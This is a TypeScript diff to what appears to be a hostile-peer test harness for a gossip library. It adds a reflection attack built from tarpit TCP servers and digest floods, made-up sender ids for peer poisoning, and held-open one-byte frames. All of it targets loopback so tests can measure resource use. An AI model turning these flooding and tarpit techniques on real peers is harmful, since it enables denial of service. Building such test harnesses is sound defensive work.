@@ -9,7 +9,7 @@
  * sends back what it did ({ type: 'done', ... }) and exits. Every kind speaks
  * the wire protocol by hand, as a hostile peer would: no transport involved.
  */
-import { connect as netConnect, type Socket } from 'node:net';
+import { connect as netConnect, createServer as netServer, type Server, type Socket } from 'node:net';
 import { connect as tlsConnect, type ConnectionOptions, type TLSSocket } from 'node:tls';
 
 export type AttackKind =
@@ -24,7 +24,14 @@ export type AttackKind =
   /** Send valid digests naming `entries` new fake peers each, `messages` times. */
   | 'poison'
   /** Stream valid-looking 1 MiB frames built for parse cost (a sender with 90,000 keys). */
-  | 'costly';
+  | 'costly'
+  /**
+   * Reflection: run `tarpits` TCP servers (accept, never read, never answer,
+   * never close) and send the victim digests at `rate` frames a second, each
+   * from a sender whose advertised transport is one of the tarpits, so that
+   * gossipmonger answers every one of them there.
+   */
+  | 'reflect';
 
 export interface AttackPlan {
   kind: AttackKind;
@@ -43,8 +50,23 @@ export interface AttackPlan {
   senderId?: string;
   /** poison: pad each entry's transport with this many bytes (the old schema left it open). */
   transportBytes?: number;
+  /** poison: each message (each its own connection) from a sender id of its own, to prove made-up ids by contact. */
+  distinctSenders?: boolean;
   /** Give up after this many ms even without 'stop'. */
   duration?: number;
+  /** reflect: tarpit servers to name (on 127.0.0.3). */
+  tarpits?: number;
+  /** reflect: digests a second. */
+  rate?: number;
+  /** reflect: instead of a rate, this many digests in one write, once. */
+  burst?: number;
+  /**
+   * one-byte: each connection stops before its frame's last byte; once all
+   * have, the attacker sends { type: 'holding' } and waits for 'release'. The
+   * victim then holds every unfinished frame at its largest: the moment a test
+   * measures what it retains.
+   */
+  holdLast?: boolean;
 }
 
 export interface AttackReport {
@@ -59,6 +81,8 @@ export interface AttackReport {
   bytes: number;
   /** Frames written completely. */
   frames: number;
+  /** reflect: connections the tarpits accepted. */
+  tarpitConnections?: number;
 }
 
 const HOST = '127.0.0.1';
@@ -66,11 +90,15 @@ const HOST = '127.0.0.1';
 class Attacker {
   private stopped = false;
   private readonly sockets = new Set<Socket>();
+  private holding = 0;
+  private onRelease: () => void = () => {};
+  private readonly released = new Promise<void>((resolve) => { this.onRelease = resolve; });
   readonly report: AttackReport = { type: 'done', opened: 0, handshakes: 0, closedByServer: 0, bytes: 0, frames: 0 };
 
   constructor (private readonly plan: AttackPlan) {}
 
   async run (): Promise<void> {
+    if (this.plan.kind === 'reflect') return this.reflect();
     const { sources, connections } = this.plan;
     const workers: Array<Promise<void>> = [];
     for (const source of sources) {
@@ -81,7 +109,86 @@ class Attacker {
 
   stop (): void {
     this.stopped = true;
+    this.onRelease();
     for (const socket of this.sockets) socket.destroy();
+    for (const server of this.tarpits) server.close();
+    for (const socket of this.held) socket.destroy();
+  }
+
+  private readonly tarpits: Server[] = [];
+  /** Connections the tarpits hold. */
+  private readonly held = new Set<Socket>();
+
+  /**
+   * Tarpits on 127.0.0.3, then digests naming them, `rate` a second, on one
+   * connection from the first source (reconnecting if it is closed). Sender
+   * ids cycle over one per tarpit, so the victim's maxPeers never stops the flood.
+   */
+  private async reflect (): Promise<void> {
+    const count = this.plan.tarpits ?? 3;
+    const ports: number[] = [];
+    this.report.tarpitConnections = 0;
+    for (let i = 0; i < count; i++) {
+      const server = netServer({ allowHalfOpen: true, pauseOnConnect: true }, (socket) => {
+        // Never read, never write, never close: the victim's frame waits in its own buffers.
+        this.report.tarpitConnections!++;
+        this.held.add(socket);
+        socket.on('error', () => {});
+        socket.once('close', () => this.held.delete(socket));
+      });
+      server.on('error', () => {});
+      await new Promise<void>((resolve) => server.listen(0, '127.0.0.3', resolve));
+      this.tarpits.push(server);
+      ports.push((server.address() as { port: number }).port);
+    }
+    const rate = this.plan.rate ?? 600;
+    const frames = ports.map((port, i) => Buffer.from(JSON.stringify({
+      digest: [{ id: 'victim', maxVersionSeen: 0 }],
+      sender: { id: `reflector-${i}`, transport: { host: '127.0.0.3', port } }
+    }) + '\n'));
+    let next = 0;
+    const source = this.plan.sources[0]!;
+    while (!this.stopped) {
+      const socket = await this.open(source);
+      if (socket === undefined) {
+        await new Promise((resolve) => setTimeout(resolve, 10));
+        continue;
+      }
+      const burst = this.plan.burst;
+      if (burst !== undefined) {
+        const bytes = Buffer.concat(Array.from({ length: burst }, () => frames[next++ % frames.length]!));
+        socket.write(bytes);
+        this.report.bytes += bytes.length;
+        this.report.frames += burst;
+        await closedOf(socket);
+        return;
+      }
+      // A batch every 10 ms: `rate` a second without a timer per frame.
+      const perTick = Math.max(1, Math.round(rate / 100));
+      const timer = setInterval(() => {
+        if (socket.destroyed) return;
+        const batch: Buffer[] = [];
+        for (let i = 0; i < perTick; i++) batch.push(frames[next++ % frames.length]!);
+        const bytes = Buffer.concat(batch);
+        socket.write(bytes);
+        this.report.bytes += bytes.length;
+        this.report.frames += perTick;
+      }, 10);
+      await closedOf(socket);
+      clearInterval(timer);
+    }
+  }
+
+  /** holdLast: lets every connection write its last byte. */
+  release (): void {
+    this.onRelease();
+  }
+
+  /** holdLast: one more connection waits before its last byte; the last to arrive says so. */
+  private async holdBeforeLast (): Promise<void> {
+    this.holding++;
+    if (this.holding === this.plan.sources.length * this.plan.connections) process.send?.({ type: 'holding' });
+    await this.released;
   }
 
   /** One connection slot: keeps attacking until stopped. */
@@ -158,6 +265,8 @@ class Attacker {
   private async oneByte (socket: Socket): Promise<void> {
     const frame = paddedFrame(this.plan.frameBytes ?? 65536);
     for (let i = 0; i < frame.length && !socket.destroyed && !this.stopped; i++) {
+      if (i === frame.length - 1 && this.plan.holdLast === true) await this.holdBeforeLast();
+      if (socket.destroyed || this.stopped) break;
       await new Promise<void>((resolve) => socket.write(frame.subarray(i, i + 1), () => resolve()));
       this.report.bytes++;
     }
@@ -206,7 +315,8 @@ export function paddedFrame (size: number): Buffer {
 export function poisonFrame (plan: AttackPlan, source: string, worker: number, message: number): Buffer {
   const transport = { host: '192.0.2.1', port: 9, ...(plan.transportBytes ? { blob: 'x'.repeat(plan.transportBytes) } : {}) };
   const digest = Array.from({ length: plan.entries ?? 1000 }, (_, i) => ({ id: `fake-${source}-${worker}-${message}-${i}`, maxVersionSeen: 1, transport }));
-  return Buffer.from(JSON.stringify({ digest, sender: { id: plan.senderId ?? `attacker-${source}-${worker}`, transport: { host: '192.0.2.1', port: 9 } } }) + '\n');
+  const sender = plan.senderId ?? `attacker-${source}-${worker}${plan.distinctSenders === true ? `-${message}` : ''}`;
+  return Buffer.from(JSON.stringify({ digest, sender: { id: sender, transport: { host: '192.0.2.1', port: 9 } } }) + '\n');
 }
 
 /** Just under 1 MiB: a sender with 90,000 extra keys, which the old schema accepted. */
@@ -229,7 +339,10 @@ if (require.main === module) {
       if (!process.send) process.exit(0);
     }, 20);
   };
-  process.on('message', (message) => { if (message === 'stop') finish(); });
+  process.on('message', (message) => {
+    if (message === 'stop') finish();
+    if (message === 'release') attacker.release();
+  });
   process.on('disconnect', finish);
   if (plan.duration !== undefined) setTimeout(finish, plan.duration).unref();
   attacker.run().then(() => { if (plan.kind === 'poison' || plan.kind === 'one-byte') process.send?.({ type: 'finished' }); }, () => {});
